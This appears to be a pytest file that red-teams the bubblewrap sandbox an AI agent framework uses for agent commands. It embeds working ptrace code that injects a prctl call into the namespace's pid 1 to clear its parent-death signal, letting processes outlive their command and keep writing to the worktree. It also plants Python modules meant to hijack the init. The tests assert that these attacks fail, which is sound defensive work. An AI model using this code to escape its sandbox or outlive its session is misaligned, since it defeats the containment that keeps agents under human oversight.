"""Red team of the sandbox's PID namespace: a process that makes the namespace outlive its command.

bwrap kills a sandbox whose parent dies through one thing only: the parent-death signal of the
namespace's pid 1 (``--die-with-parent``). Whoever can run code in pid 1 can clear it. Inside the
sandbox pid 1 has the command's uid and no capability, and this kernel has no Yama, so a process
of the command can ptrace it: the attack below attaches to pid 1, makes it call
``prctl(PR_SET_PDEATHSIG, 0)`` by pointing its registers at a ``syscall`` instruction of its own
code, restores it and detaches. The command then hangs until the caller's timeout kills ``bwrap``;
pid 1 no longer dies with it, so the namespace, its processes and its writable bind of the worktree
stay: the builder's process keeps writing into the worktree after its command "ended" (while
agentflow commits it, or during the verifier's turn)."""

from __future__ import annotations

import os
import platform
import subprocess
import time
import uuid
from pathlib import Path

import pytest

from tests.helpers import git, need_tool

# Runs inside the sandbox: leaves the command's session, attacks pid 1, then keeps writing into the
# worktree for 20 seconds. attack.log says what each step gave.
DAEMON = r"""
import ctypes, os, sys, time
if os.fork(): sys.exit(0)
os.setsid()
if os.fork(): sys.exit(0)
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
NAMES = ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
         "fs_base gs_base ds es fs gs").split()
class Regs(ctypes.Structure):
    _fields_ = [(name, ctypes.c_ulonglong) for name in NAMES]
PTRACE_GETREGS, PTRACE_SETREGS, PTRACE_SINGLESTEP, PTRACE_ATTACH, PTRACE_DETACH = 12, 13, 9, 16, 17
WALL = 0x40000000

def log(text):
    with open("attack.log", "a") as f:
        f.write(text + "\n")

def mem_open():
    try:
        os.close(os.open("/proc/1/mem", os.O_RDWR))
        return "opened"
    except OSError as exc:
        return exc.strerror

def syscall_instruction():
    with open("/proc/1/maps") as maps:
        regions = [line.split()[:2] for line in maps]
    fd = os.open("/proc/1/mem", os.O_RDONLY)
    try:
        for span, perms in regions:
            if "x" not in perms:
                continue
            start, end = (int(x, 16) for x in span.split("-"))
            try:
                found = os.pread(fd, end - start, start).find(b"\x0f\x05")
            except OSError:
                continue
            if found >= 0:
                return start + found
    finally:
        os.close(fd)
    return None

def clear_pdeathsig():
    if libc.ptrace(PTRACE_ATTACH, 1, None, None) != 0:
        return "attach: " + os.strerror(ctypes.get_errno())
    os.waitpid(1, WALL)
    gadget = syscall_instruction()
    if gadget is None:
        return "no syscall instruction"
    saved, regs = Regs(), Regs()
    libc.ptrace(PTRACE_GETREGS, 1, None, ctypes.byref(saved))
    ctypes.pointer(regs)[0] = saved
    regs.rax, regs.orig_rax, regs.rip = 157, 2**64 - 1, gadget  # prctl, no syscall restart
    regs.rdi, regs.rsi, regs.rdx, regs.r10, regs.r8 = 1, 0, 0, 0, 0  # PR_SET_PDEATHSIG, 0
    libc.ptrace(PTRACE_SETREGS, 1, None, ctypes.byref(regs))
    libc.ptrace(PTRACE_SINGLESTEP, 1, None, None)
    os.waitpid(1, WALL)
    libc.ptrace(PTRACE_GETREGS, 1, None, ctypes.byref(regs))
    libc.ptrace(PTRACE_SETREGS, 1, None, ctypes.byref(saved))
    libc.ptrace(PTRACE_DETACH, 1, None, None)
    return "prctl: " + str(ctypes.c_longlong(regs.rax).value)

log("mem: " + mem_open())
try:
    log(clear_pdeathsig())
except Exception as exc:
    log("error: " + repr(exc))
for _ in range(400):
    with open("survivor.txt", "a") as f:
        f.write("x")
    time.sleep(0.05)
"""


def _layout(repo: Path, tmp_path: Path, monkeypatch) -> Path:
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    worktree = repo / ".agentflow" / "worktrees" / "w"
    git(repo, "worktree", "add", "-q", str(worktree), "-b", "w")
    (worktree / "daemon.py").write_text(DAEMON)
    return worktree


def _alive(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if marker.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


def _run(worktree: Path, command: str, nested: bool) -> int | None:
    """The command as agentflow runs it, with a 6 s timeout: ``run_shell`` (run_command, checks, the
    command backend), or, nested, the way the Claude Code transport starts and kills its process."""
    from agentflow.sandbox import Sandbox
    from agentflow.tools import run_shell

    sandbox = Sandbox.from_config()
    if not nested:
        return run_shell(command, worktree, 6, sandbox=sandbox)[0]
    argv = sandbox.wrap(["bash", "-c", command], worktree, nested=True)
    proc = subprocess.Popen(argv, env=sandbox.environment(), start_new_session=True,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
    try:
        return proc.wait(timeout=6)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, 9)
        proc.wait()
        return None


@pytest.mark.parametrize("nested", [False, True], ids=["default", "nested"])
def test_a_tracer_that_clears_the_inits_parent_death_signal_does_not_outlive_the_command(
    repo: Path, tmp_path: Path, monkeypatch, nested: bool
) -> None:
    """The attack of the module docstring, in both sandbox shapes. After the command returns
    (killed at its timeout) nothing of it is left: no process, and nothing written into the
    worktree. The attack fails where it starts: pid 1 cannot be ptraced, nor its memory opened."""
    need_tool("bwrap")
    if platform.machine() != "x86_64":
        pytest.skip("the attack's register layout is x86_64's")  # the defence is not arch-specific
    worktree = _layout(repo, tmp_path, monkeypatch)
    marker = f"survivor-{uuid.uuid4().hex}"
    command = f"python3 daemon.py {marker} </dev/null >/dev/null 2>&1; sleep 30 # {marker}"
    survivor = worktree / "survivor.txt"
    try:
        code = _run(worktree, command, nested)
        returned = time.monotonic()
        log = (worktree / "attack.log").read_text() if (worktree / "attack.log").exists() else ""
        assert code is None, log  # it hung until the timeout
        survivor.unlink(missing_ok=True)
        while time.monotonic() - returned < 2 and not survivor.exists():
            time.sleep(0.1)
        assert not survivor.exists(), f"a process of the command wrote into the worktree after it returned: {log}"
        assert _alive(marker) == [], f"a process of the command survived it: {log}"
        assert "attach: Operation not permitted" in log and "mem: Permission denied" in log, log
    finally:
        for pid in _alive(marker):
            os.kill(pid, 9)


def _with_pdeathsig() -> None:
    import ctypes

    ctypes.CDLL(None).prctl(1, 9, 0, 0, 0)  # PR_SET_PDEATHSIG SIGKILL, as bwrap's --die-with-parent


def test_the_init_runs_no_command_it_cannot_guard_and_passes_its_status_on(tmp_path: Path) -> None:
    """agentflow's init fails closed: without a parent-death signal (here: started by hand, not by
    bwrap --die-with-parent) it says so in one line, exits 125 and starts nothing. Armed, it passes
    the command's exit status on, and a death by signal as 128 + the signal, like bwrap's init."""
    from agentflow.sandbox import init_argv

    marker = tmp_path / "ran"
    proc = subprocess.run([*init_argv(), "touch", str(marker)], capture_output=True, text=True, check=False)
    assert proc.returncode == 125 and not marker.exists()
    assert proc.stderr == (
        "agentflow: sandbox init: pid 1 does not die with bwrap (parent-death signal 0) (the command was not run)\n"
    )
    for script, code in (("exit 3", 3), ("kill -9 $$", 137), ("touch " + str(marker), 0)):
        run = subprocess.run([*init_argv(), "sh", "-c", script], preexec_fn=_with_pdeathsig, check=False)  # noqa: PLW1509
        assert run.returncode == code, script
    assert marker.exists()
    missing = subprocess.run([*init_argv(), str(tmp_path / "nope")], capture_output=True, text=True,
                             preexec_fn=_with_pdeathsig, check=False)  # fmt: skip  # noqa: PLW1509
    assert missing.returncode == 127 and "nope: No such file or directory" in missing.stderr


def test_modules_planted_in_the_worktree_do_not_run_in_the_init(repo: Path, tmp_path: Path, monkeypatch) -> None:
    """The init is Python started in the worktree, which an earlier command of the builder wrote:
    a ``ctypes.py``, ``signal.py`` or ``sitecustomize.py`` there (and ``PYTHONPATH`` pointing at it)
    would run in pid 1 and could disarm it. They are never imported (``-I -S``)."""
    need_tool("bwrap")
    from agentflow.sandbox import Sandbox
    from agentflow.tools import run_shell

    worktree = _layout(repo, tmp_path, monkeypatch)
    for name in ("ctypes", "signal", "sitecustomize", "usercustomize", "encodings"):
        (worktree / f"{name}.py").write_text(f"open({str(worktree / ('planted-' + name))!r}, 'w').close()\n")
    sandbox = Sandbox.from_config()
    env = {**sandbox.environment(), "PYTHONPATH": str(worktree), "PYTHONSTARTUP": str(worktree / "signal.py")}

    code, out, _ = run_shell("echo ran", worktree, 30, env, sandbox)

    assert (code, out) == (0, "ran\n")
    assert sorted(p.name for p in worktree.glob("planted-*")) == []


def test_an_init_that_cannot_guard_the_sandbox_fails_closed_at_start(monkeypatch) -> None:
    """The probe behind ``mode: auto | bwrap`` starts a sandbox with the init: where the init
    refuses (here made to, as it does without prctl or an armed parent-death signal), no sandbox is
    available (exit 2, one line naming the init's complaint and the fix) rather than commands that
    all fail, or run with an init that does not guard them."""
    need_tool("bwrap")
    import agentflow.sandbox as sandbox

    refusal = "import os; os.write(2, b'agentflow: sandbox init: cannot make pid 1 non-dumpable\\n'); os._exit(125)"
    monkeypatch.setattr(sandbox, "INIT", refusal)
    sandbox._probe.cache_clear()
    try:
        with pytest.raises(sandbox.SandboxUnavailable) as raised:
            sandbox.require_bwrap()
    finally:
        sandbox._probe.cache_clear()
    assert raised.value.exit_code == 2
    assert str(raised.value) == (
        "agentflow.yaml: sandbox: agentflow's init cannot guard it here (cannot make pid 1 non-dumpable) "
        "(run agentflow with a CPython that has ctypes, on Linux; or set `sandbox: {mode: off}` knowingly)"
    )
